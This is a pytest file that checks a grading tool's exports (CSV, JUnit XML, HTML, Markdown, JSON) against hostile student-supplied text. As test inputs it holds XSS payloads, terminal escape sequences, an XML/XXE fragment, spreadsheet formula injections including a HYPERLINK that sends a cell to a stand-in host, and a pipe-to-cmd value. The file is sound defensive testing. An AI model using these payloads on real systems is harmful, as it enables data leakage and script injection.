"""Names, ids and messages that attack a terminal, a spreadsheet, XML, HTML, Markdown or a disk."""

import csv
import io
import json
import re
import unicodedata
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt

from grader.exports.canvas import canvas
from grader.exports.classroom import classroom, step_output
from grader.exports.feedback import feedback_html, feedback_markdown
from grader.exports.gradescope import gradescope
from grader.exports.junit import junit
from grader.exports.plain import block, cell
from grader.exports.prairielearn import prairielearn
from grader.exports.roster import Student, matched
from grader.exports.spreadsheet import spreadsheet
from grader.report import Outcome, SubmissionInfo
from grader.summary import Row, summary_csv
from tests.exports.sample_reports import check, exercise, report

TEXTS = {
    "terminal": "\x1b[2J\x1b]0;title\x07red\x9b31m",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" \'',
    "cdata": "]]></failure><failure>&xxe;<!--",
    "formula": '=HYPERLINK("http://x/?"&A1)',
    "formula behind a control": "\x00\t\r\n=1+1",
    "full-width formula": "＝1+1",
    "at": "@SUM(1)",
    "minus": "-2+3|cmd",
    "plus": "+1",
    "nul": "a\x00b\x08c\ufffe\uffff",
    "surrogate": "a\udcff\ud800b",
    "bidi": "a\u202egnp.exe",
    "comma": 'O\'Neil, "Jr.", Zoë 🦉\nsecond; line',
    "points": "Points Possible",
    "markdown": "# h\n| a | ![x](http://x/y) [l](javascript:alert(1)) **b** `c` <b> ~~s~~ www.x.org",
    "fence": "```\n# out\n````\n<b>bold</b>",
    "template": "{{ 7 * 7 }}{% raw %}",
    "large": "x" * 1_000_000,
    "many lines": "\n" * 1_000_000 + "y",
    "fields": "a,b\n" * 5000,
}


def attacked(text: str):
    """A report with `text` everywhere."""
    bad = check(Outcome.FAILED, name=text, claim=text, message=text, hint=text, mistake=text)
    hidden = check(Outcome.CRASHED, hidden=True, name=text, claim=text, message=text, hint=text)
    broken = exercise(
        "memory.count", 5, 10, bad, hidden, check(claim=text), outcome=Outcome.FAILED, todo=text
    )
    broken = broken.model_copy(update={"title": text})
    info = SubmissionInfo(id=text, missing=(f"memory/{text}",), notes=(text,))
    return report("x", broken).model_copy(update={"submission": info})


def attacked_entries(text: str):
    student = Student(text, "7", "s-7", "x", text, submission=text)
    error = report("never graded", error=text)
    return matched([attacked(text), error], [student, Student(name=text, sis_login_id="z")])


def all_text(text: str) -> dict[str, str]:
    """Every format's output."""
    entries = attacked_entries(text)
    one = attacked(text)
    return {
        "canvas": canvas(entries),
        "csv": spreadsheet(entries),
        "junit": junit(entries),
        "gradescope": json.dumps(gradescope(one), ensure_ascii=False),
        "classroom": json.dumps(classroom(one), ensure_ascii=False),
        "prairielearn": json.dumps(prairielearn(one), ensure_ascii=False),
        "html": feedback_html(one),
        "markdown": feedback_markdown(one),
    }


@pytest.mark.parametrize("name", TEXTS)
def test_nothing_that_a_terminal_or_xml_acts_on_is_left(name):
    for form, text in all_text(TEXTS[name]).items():
        odd = {each for each in text if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Cn")} - {"\n"}
        assert not odd, (form, odd)
        assert len(text.encode("utf-8")) < 60_000, form
    assert step_output(classroom(attacked(TEXTS[name]))).count("\n") == 1


@pytest.mark.parametrize("name", TEXTS)
def test_no_column_is_shifted_and_no_cell_is_a_formula(name):
    entries = attacked_entries(TEXTS[name])
    for text in (canvas(entries), spreadsheet(entries)):
        table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        assert len({len(row) for row in table}) == 1
        for value in (value for row in table for value in row):
            assert not re.match(r"\s*[=+\-@＝＋－＠]", value), value
    table = list(csv.reader(io.StringIO(canvas(entries), newline="")))
    assert ["Points Possible" in row[0] for row in table] == [False, True, False, False]
    assert table[2][5] == "5"


@pytest.mark.parametrize("name", TEXTS)
def test_xml_has_the_same_elements_whatever_the_text(name):
    harmless = [each.tag for each in ElementTree.fromstring(junit(attacked_entries("harmless"))).iter()]
    assert [
        each.tag for each in ElementTree.fromstring(junit(attacked_entries(TEXTS[name]))).iter()
    ] == harmless


@pytest.mark.parametrize("name", TEXTS)
def test_html_has_the_same_tags_whatever_the_text(name):
    def tags(text: str) -> list[str]:
        return re.findall(r"<[^>]*>", feedback_html(attacked(text)))

    assert tags(TEXTS[name]) == tags("harmless")


@pytest.mark.parametrize("name", TEXTS)
def test_markdown_renders_to_the_same_tags_whatever_the_text(name):
    reader = MarkdownIt("gfm-like", {"html": True, "linkify": False})

    def tags(text: str) -> list[str]:
        return re.findall(r"<[^>]*>", reader.render(feedback_markdown(attacked(text))))

    assert tags(TEXTS[name]) == tags("harmless")


def test_what_is_escaped_in_markdown_reads_as_it_was():
    text = "a_b * [c](d) | <e> #f `g` 1. ~~h~~"
    shown = MarkdownIt("gfm-like", {"linkify": False}).render(feedback_markdown(attacked(text)))
    assert "a_b * [c](d) | &lt;e&gt; #f `g` 1. ~~h~~" in shown


def test_a_long_message_says_that_it_was_cut():
    assert block("x\n" * 10_000, 100).endswith("… (cut)")
    assert len(block("x" * 10_000, 100)) < 120
    assert block("a\n  b") == "a\n  b"
    assert block("") == ""


def test_a_cell_is_changed_only_where_it_must_be():
    assert cell("O'Neil, Jr.") == "O'Neil, Jr."
    assert cell("a=b") == "a=b"
    assert cell(" =b") == "'=b"


@pytest.mark.parametrize("name", TEXTS)
def test_the_summary_of_a_grading_has_no_formula_either(name):
    rows = [Row(TEXTS[name], each, TEXTS[name]) for each in (attacked(TEXTS[name]), None)]
    table = list(csv.reader(io.StringIO(summary_csv(rows), newline=""), strict=True))
    assert len({len(row) for row in table}) == 1
    for row in table:
        assert not [value for value in row if re.match(r"\s*[=+\-@＝＋－＠]", value)]
        assert not [each for each in "".join(row) if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Cn")]
